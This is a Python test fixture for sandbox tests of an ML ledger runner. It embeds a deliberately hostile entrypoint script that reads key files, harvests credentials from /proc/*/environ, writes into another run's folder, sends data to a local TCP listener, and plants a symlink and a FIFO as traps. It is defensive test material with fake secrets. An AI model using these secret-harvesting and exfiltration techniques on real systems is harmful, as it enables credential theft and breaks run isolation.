"""A hostile python-kind entrypoint and the secrets it goes after, for the sandbox tests.

``HOSTILE_PY`` (``train:main``) tries, one by one, to read the ledger key and
the subject KEK by their paths on the runner, to find credentials in its
environment and in every process's environment it can see, to read and list
another run's folder, to write beside it, and to open a TCP connection to a
listener on the runner's 127.0.0.1. Each attempt records ``leaked_<name>``: 1
when it got something, 0 when it was denied; the reasons go to
``attempts.json`` in its output folder. It also leaves traps for whoever reads
its outputs: a symbolic link ``model.0-link`` to the ledger key (sorted before
its real ``model.json``) and a FIFO named ``predictions.json``.
"""

from __future__ import annotations

import os
import socket
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

SECRET_ENVIRONMENT = {
    "MLLEDGER_DATABASE_URL": "postgresql://ledger:db-password-7f3a@db.internal:5432/ledger",
    "MLLEDGER_ADMIN_API_KEY": "mlk_admin_secret_9c1e4b",
    "MLLEDGER_RUNNER_API_KEY": "mlk_runner_secret_5d2a8f",
}
LEDGER_KEY_TEXT = b"-----BEGIN PRIVATE KEY-----\nledger-private-key-0b7e19\n-----END PRIVATE KEY-----\n"
KEK_BYTES = b"subject-kek-2c6f0d3a91e4b7c8"
OTHER_RUN_TEXT = b"another run's private output 4e8d1c"

HOSTILE_PY = r"""
import json, os, socket

def _read(path):
    with open(path, "rb") as handle:
        return handle.read()

def _try(outcomes, name, attempt):
    try:
        got = attempt()
    except Exception as exc:
        outcomes[name] = {"leaked": 0, "why": f"{type(exc).__name__}: {exc}"}
    else:
        outcomes[name] = {"leaked": 1 if got else 0, "why": "got it" if got else "found nothing"}

def _environment(names):
    return [name for name in os.environ if name in names or "DATABASE" in name or "API_KEY" in name]

def _process_environments(names):
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                data = _read(f"/proc/{pid}/environ")
            except OSError:
                continue
            found += [name for name in names if name.encode() in data]
    return found

def _connect(port):
    with socket.create_connection(("127.0.0.1", port), timeout=3) as connection:
        connection.sendall(b"exfiltrated")
    return True

def _write_beside(runs_dir):
    with open(os.path.join(runs_dir, "planted.txt"), "w") as handle:
        handle.write("planted")
    return True

def _siblings(output_dir):
    own = {os.path.basename(output_dir), "code", "control", "datasets"}
    return [name for name in os.listdir(os.path.dirname(output_dir)) if name not in own]

def main(request):
    p, out, outcomes = request["params"], request["output_dir"], {}
    _try(outcomes, "ledger_key", lambda: _read(p["ledger_key"]))
    _try(outcomes, "subject_kek", lambda: _read(p["subject_kek"]))
    _try(outcomes, "environment", lambda: _environment(p["secret_names"].split(",")))
    _try(outcomes, "process_environments", lambda: _process_environments(p["secret_names"].split(",")))
    _try(outcomes, "other_run_file", lambda: _read(p["other_run_file"]))
    _try(outcomes, "other_run_listing", lambda: os.listdir(os.path.dirname(p["other_run_file"])))
    _try(outcomes, "runs_listing", lambda: os.listdir(p["runs_dir"]))
    _try(outcomes, "sibling_folders", lambda: _siblings(out))
    _try(outcomes, "write_beside", lambda: _write_beside(p["runs_dir"]))
    _try(outcomes, "network", lambda: _connect(p["port"]))
    os.symlink(p["ledger_key"], os.path.join(out, "model.0-link"))
    os.mkfifo(os.path.join(out, "predictions.json"))
    with open(os.path.join(out, "model.json"), "w") as handle:
        json.dump({"weights": [1, 2, 3]}, handle)
    with open(os.path.join(out, "attempts.json"), "w") as handle:
        json.dump(outcomes, handle, indent=1)
    print(json.dumps(outcomes))
    metrics = {f"leaked_{name}": outcome["leaked"] for name, outcome in outcomes.items()}
    metrics["attempts"] = len(outcomes)
    return {"metrics": metrics}
"""

ATTEMPTS = (
    "ledger_key",
    "subject_kek",
    "environment",
    "process_environments",
    "other_run_file",
    "other_run_listing",
    "runs_listing",
    "sibling_folders",
    "write_beside",
    "network",
)

NETWORK_PY = r"""
import os, socket

def main(request):
    with open(os.path.join(request["output_dir"], "model.txt"), "w") as handle:
        handle.write("no model")
    try:
        with socket.create_connection(("127.0.0.1", request["params"]["port"]), timeout=3) as connection:
            connection.sendall(b"hello")
        return {"connected": 1}
    except OSError:
        return {"connected": 0}
"""


@dataclass
class Listener:
    """A TCP server on 127.0.0.1 that records every connection and what it received."""

    server: socket.socket = field(default_factory=lambda: socket.create_server(("127.0.0.1", 0)))
    received: list[bytes] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.server.settimeout(0.2)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    @property
    def port(self) -> int:
        """The port it listens on."""
        return int(self.server.getsockname()[1])

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                connection, _ = self.server.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(1024))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        """Stop listening."""
        self._stop.set()
        self._thread.join(timeout=5)
        self.server.close()


def hostile_params(keys_dir: Path, other_run: Path, listener: Listener) -> dict[str, Any]:
    """The hostile entrypoint's run params: where the secrets are on the runner, and the listener's port."""
    return {
        "ledger_key": str(keys_dir / "ledger.pem"),
        "subject_kek": str(keys_dir / "subject-kek.bin"),
        "secret_names": ",".join(SECRET_ENVIRONMENT),
        "other_run_file": str(other_run / "result.json"),
        "runs_dir": str(other_run.parent),
        "port": listener.port,
    }


def plant_other_run(runs_dir: Path) -> Path:
    """A finished run's folder beside the hostile one, holding a private output."""
    other = runs_dir / "other-run"
    other.mkdir(parents=True, mode=0o700)
    (other / "result.json").write_bytes(OTHER_RUN_TEXT)
    return other


def secrets_of(keys_dir: Path) -> list[bytes]:
    """Every secret a leak would carry: key file contents, credential values, the other run's output."""
    found = [OTHER_RUN_TEXT, *(value.encode() for value in SECRET_ENVIRONMENT.values())]
    for name in ("ledger.pem", "subject-kek.bin"):
        path = keys_dir / name
        if path.exists():
            found.append(path.read_bytes())
    return found


def files_containing(root: Path, secrets: list[bytes]) -> list[str]:
    """Regular files under ``root`` that hold any of ``secrets`` (links are not followed)."""
    leaked = []
    for directory, _, files in os.walk(root):
        for name in files:
            path = Path(directory) / name
            if path.is_symlink() or not path.is_file():
                continue
            data = path.read_bytes()
            if any(secret in data for secret in secrets):
                leaked.append(str(path.relative_to(root)))
    return leaked
